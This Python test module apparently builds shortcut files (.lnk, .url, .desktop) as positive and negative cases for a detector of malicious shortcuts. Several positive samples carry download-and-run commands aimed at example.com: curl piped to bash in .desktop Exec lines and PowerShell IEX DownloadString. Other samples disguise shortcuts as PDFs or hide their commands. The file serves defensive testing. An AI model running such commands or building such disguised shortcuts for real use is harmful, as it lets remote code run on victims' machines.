"""Links are put together by hand: a header, the strings that are wanted, and the block with the target."""

import struct

from tests.engine.indicator_cases.case import Case
from tests.engine.script_texts import CUT, pair

SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"


def link(
    target: str,
    arguments: str = "",
    *,
    show: int = 1,
    icon: str = "",
    name: str = "",
    base: str = "",
    tail: bytes = b"",
) -> bytes:
    """Return a shell link."""
    arguments = arguments.replace(CUT, "")
    flags = 0x80 | 0x200 | (4 if name else 0) | (32 if arguments else 0) | (64 if icon else 0) | (2 if base else 0)
    head = struct.pack("<I16sII24x", 76, bytes.fromhex("0114020000000000c000000000000046"), flags, 32)
    head += struct.pack("<IiIHHII", 0, 0, show, 0, 0, 0, 0)
    if base:
        path = base.encode() + b"\0"
        head += struct.pack("<IIIIIII", 28 + len(path), 28, 1, 0, 28, 0, 28 + len(path) - 1) + path
    for text in (name, arguments, icon):
        if text:
            head += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    block = target.encode().ljust(260, b"\0") + target.encode("utf-16-le").ljust(520, b"\0")
    return head + struct.pack("<II", 788, 0xA0000001) + block + bytes(4) + tail


HONEST = link(SYSTEM + "notepad.exe", "C:\\notes.txt", icon=SYSTEM + "notepad.exe")
LONG = "-NoProfile -Command " + "Write-Output one; " * 20


def case(positive: bytes, negative: bytes = HONEST) -> Case:
    return Case(positive=positive, negative=negative, name="a.lnk")


CASES = {
    "shortcut.starts_shell": case(link(POWERSHELL, "-File C:\\job.ps1")),
    "shortcut.minimised": case(link(POWERSHELL, "-File C:\\job.ps1", show=7), link(POWERSHELL, "-File C:\\job.ps1")),
    "shortcut.padded": case(link(SYSTEM + "cmd.exe", " " * 300 + "/c dir"), link(SYSTEM + "cmd.exe", "/c dir")),
    "shortcut.long_command": case(link(POWERSHELL, LONG), link(POWERSHELL, LONG[:80])),
    "shortcut.garbled_command": case(
        link(SYSTEM + "cmd.exe", "/c e^c^h^o h^e^l^l^o"), link(SYSTEM + "cmd.exe", "/c echo hello")
    ),
    "shortcut.document_icon": case(
        link(POWERSHELL, "-File C:\\job.ps1", icon="C:\\Program Files\\Adobe\\AcroRd32.exe"),
        link(POWERSHELL, "-File C:\\job.ps1", icon=POWERSHELL),
    ),
    "shortcut.disguised_command": case(
        link(POWERSHELL, LONG, show=7, icon="C:\\Program Files\\Adobe\\AcroRd32.exe"),
        link(POWERSHELL, "-File C:\\job.ps1"),
    ),
    "shortcut.poses_as_document": case(
        link(POWERSHELL, "-File C:\\job.ps1", name="invoice.pdf"), link(POWERSHELL, "-File C:\\job.ps1", name="job")
    ),
    "shortcut.remote_icon": case(link(SYSTEM + "notepad.exe", icon="\\\\files.example.com\\a\\b.ico")),
    "shortcut.web_icon": case(link(SYSTEM + "notepad.exe", icon="https://example.com/b.ico")),
    "shortcut.remote_program": case(link("\\\\files.example.com@80\\a\\b.exe"), link("\\\\files\\a\\b.docx")),
    "shortcut.remote_folder": pair(
        "a.url",
        "[InternetShortcut]\r\nURL=file://files.example.com/a/\r\n",
        "[InternetShortcut]\r\nURL=https://example.com/a/\r\n",
    ),
    "shortcut.web_program": pair(
        "a.url",
        "[InternetShortcut]\r\nURL=https://example.com/a.hta\r\n",
        "[InternetShortcut]\r\nURL=https://example.com/a.html\r\n",
    ),
    "shortcut.odd_scheme": pair(
        "a.url", "[InternetShortcut]\r\nURL=ms-excel:x\r\n", "[InternetShortcut]\r\nURL=mailto:a@example.com\r\n"
    ),
    "shortcut.reads_itself": case(
        link(POWERSHELL, "-c $f = Get-Child¦Item *.l¦nk; [IO.File]::ReadAll¦Bytes($f)"),
        link(POWERSHELL, "-c Get-ChildItem *.txt"),
    ),
    "shortcut.appended": case(link(SYSTEM + "notepad.exe", tail=b"some other data " * 20)),
    "shortcut.two_targets": case(
        link(POWERSHELL, "-File C:\\job.ps1", base="C:\\docs\\list.txt"),
        link(POWERSHELL, "-File C:\\job.ps1", base=POWERSHELL),
    ),
    "shortcut.shell_line": pair(
        "a.desktop",
        "[Desktop Entry]\nType=Application\nName=x\nExec=sh -c 'echo hello'\n",
        "[Desktop Entry]\nType=Application\nName=x\nExec=gedit %f\n",
    ),
    "shortcut.desktop_download": pair(
        "a.desktop",
        "[Desktop Entry]\nType=Application\nName=x\nExec=bash -c 'cu¦rl -s https://example.com/a | ba¦sh'\n",
        "[Desktop Entry]\nType=Application\nName=x\nExec=gedit %f\n",
    ),
    "shortcut.hidden_entry": pair(
        "a.desktop",
        "[Desktop Entry]\nType=Application\nNoDisplay=true\nExec=bash -c 'cu¦rl -s https://example.com/a | ba¦sh'\n",
        "[Desktop Entry]\nType=Application\nNoDisplay=true\nExec=helper --start\n",
    ),
    "shortcut.downloads": case(
        link(POWERSHELL, "-c I¦EX (New-Object Net.Web¦Client).Down¦loadString('https://example.com/a')"),
        link(POWERSHELL, "-File C:\\job.ps1"),
    ),
}
